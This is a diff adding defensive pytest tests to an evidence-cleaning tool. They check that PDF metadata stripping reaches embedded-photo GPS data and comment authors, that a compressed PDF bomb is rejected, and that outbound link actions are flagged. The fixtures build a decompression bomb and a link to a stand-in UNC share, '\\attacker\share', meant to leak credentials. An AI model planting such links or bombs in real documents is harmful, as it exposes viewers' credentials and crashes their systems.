@@ -231,3 +231,95 @@ def test_mangled_images_never_crash(seed):
         # Accepted: then it is a readable image with no location left in it.
         stored = Image.open(io.BytesIO(clean.data))
         assert clean.kind == "image" and not stored.getexif().get_ifd(images.GPS_IFD)
+
+
+def _pdf_with_photo_and_comment():
+    """A PDF as phone scanner apps make it: the camera JPEG (with GPS and owner) embedded as is, and a comment."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(64, 48))
+    photo = pikepdf.Stream(
+        pdf,
+        images.photo_with_gps(),
+        Type=pikepdf.Name.XObject,
+        Subtype=pikepdf.Name.Image,
+        Width=64,
+        Height=48,
+        ColorSpace=pikepdf.Name.DeviceRGB,
+        BitsPerComponent=8,
+        Filter=pikepdf.Name.DCTDecode,
+    )
+    page = pdf.pages[0]
+    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
+    page.Contents = pdf.make_stream(b"q 64 0 0 48 0 0 cm /Im0 Do Q")
+    comment = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Text,
+        Rect=[0, 0, 10, 10],
+        T=pikepdf.String("Zhang Wei (parent)"),
+        Contents=pikepdf.String("see here"),
+    )
+    page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(comment)]))
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def test_pdf_cleaning_reaches_embedded_photos_and_comment_authors():
+    """Catches: PDF cleaning that drops only /Info and XMP, leaving the GPS and camera owner of an
+    embedded photo and the names of comment authors while the file is said to be clean."""
+    import pikepdf
+    from PIL import Image
+
+    from tipline.evidence.pdf import strip_pdf_metadata
+
+    data = _pdf_with_photo_and_comment()
+    cleaned = strip_pdf_metadata(data)
+    assert cleaned is not None
+    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
+        page = pdf.pages[0]
+        photo = Image.open(io.BytesIO(page.Resources.XObject.Im0.read_raw_bytes()))
+        photo.load()  # still a picture
+        assert not photo.getexif().get_ifd(images.GPS_IFD) and b"Exif" not in cleaned
+        assert "/T" not in page.Annots[0] and str(page.Annots[0].Contents) == "see here"
+
+
+def test_a_pdf_bomb_is_unreadable_not_clean_and_the_worker_survives():
+    """Catches: parsing a small PDF whose object stream unpacks to hundreds of MB in the worker itself
+    (no memory bound), or qpdf's skipped objects passing as a clean, harmless file."""
+    import pikepdf
+
+    from tipline.evidence.pdf import PdfUnreadable, strip_pdf_metadata
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.Root.Junk = pdf.make_indirect(pikepdf.Dictionary(X=pikepdf.String(b" " * 200_000_000)))
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    del pdf
+    bomb = out.getvalue()
+    assert len(bomb) < 1_000_000
+    with pytest.raises(PdfUnreadable):
+        pdf_active_content(bomb)
+    assert strip_pdf_metadata(bomb) is None  # kept as sent and marked, never said to be clean
+
+
+@pytest.mark.parametrize("action", ["GoToR", "SubmitForm", "ImportData"])
+def test_click_actions_that_call_out_are_flagged(action):
+    """Catches: link actions that open a network share (leaking the viewer's credentials) or send data
+    away passing as harmless because they need a click."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[0, 0, 10, 10],
+        A=pikepdf.Dictionary(S=pikepdf.Name("/" + action), F=pikepdf.String("\\\\\\\\attacker\\\\share\\\\x.pdf")),
+    )
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
+    out = io.BytesIO()
+    pdf.save(out)
+    assert action in pdf_active_content(out.getvalue())
